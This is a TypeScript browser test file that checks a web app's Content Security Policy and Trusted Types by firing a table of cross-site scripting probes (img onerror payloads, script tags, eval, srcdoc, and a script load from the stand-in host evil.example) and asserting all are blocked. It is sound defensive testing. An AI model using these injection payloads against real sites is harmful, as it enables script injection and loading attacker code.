// P23: a string that reached a sink of the page becomes neither script nor markup. A probe is what injected code would try next.
import { expect, signInAs, test } from "./harness.ts";

/** Run in the page; each says by what it was stopped, or nothing. `hit` is called by whatever managed to run. */
const probes: Record<string, string> = {
  "element.innerHTML":
    "document.body.appendChild(document.createElement('div')).innerHTML = '<img src=x onerror=hit()>'",
  "element.outerHTML":
    "document.body.appendChild(document.createElement('div')).outerHTML = '<img src=x onerror=hit()>'",
  insertAdjacentHTML: "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=hit()>')",
  "document.write": "document.write('<img src=x onerror=hit()>')",
  DOMParser: "new DOMParser().parseFromString('<script>hit()</script>', 'text/html')",
  createContextualFragment: "document.createRange().createContextualFragment('<script>hit()</script>')",
  "iframe.srcdoc":
    "document.body.appendChild(document.createElement('iframe')).srcdoc = '<script>parent.hit()</script>'",
  "script.src, another site":
    "document.head.appendChild(document.createElement('script')).src = 'https://evil.example/x.js'",
  "script.src, data of ours": "document.head.appendChild(document.createElement('script')).src = '/api/session'",
  "script.text": "document.head.appendChild(document.createElement('script')).text = 'hit()'",
  "script.textContent": "document.head.appendChild(document.createElement('script')).textContent = 'hit()'",
  eval: "(0, eval)('hit()')",
  "new Function": "new Function('hit()')()",
  "setTimeout of a string": "setTimeout('hit()', 0)",
  "an event handler attribute": "document.body.setAttribute('onclick', 'hit()'); document.body.click()",
  "new Worker, data:": "new Worker('data:text/javascript,postMessage(1)')",
  "service worker": "return navigator.serviceWorker.register('/api/session')",
  "another policy": "trustedTypes.createPolicy('mine', { createHTML: (text) => text })",
};

/** Stopped without an error in the code that tried. */
const silent = new Set(["an event handler attribute"]);

test("no string becomes script or markup", async ({ page, app, violations }) => {
  await signInAs(page, "admin", app);
  const answer = await page.goto("/vaults");
  const policies = (await answer?.headersArray())?.filter(
    ({ name }) => name.toLowerCase() === "content-security-policy",
  );
  expect(policies).toHaveLength(2);
  await expect(page.getByRole("row").nth(2)).toBeVisible();
  expect(violations.csp).toEqual([]);
  await page.evaluate("Object.assign(window, { hits: 0, hit: () => { window.hits += 1; } })");
  for (const [name, code] of Object.entries(probes)) {
    // What the debugger evaluates may evaluate on; a moment later it is the page's own code, as an injected line would be.
    const stopped = await page.evaluate(
      `(async () => { await new Promise((later) => setTimeout(later)); try { await (() => { ${code} })(); return ""; } catch (error) { return String(error); } })()`,
    );
    if (!silent.has(name)) expect(stopped, name).toMatch(/Trusted|EvalError|Content Security Policy/);
  }
  await page.waitForTimeout(1_000);
  expect(await page.evaluate("hits")).toBe(0);
  expect(violations.csp.length, "the browser reports what it refused").toBeGreaterThanOrEqual(14);
  // They were asked for.
  violations.csp.length = 0;
});
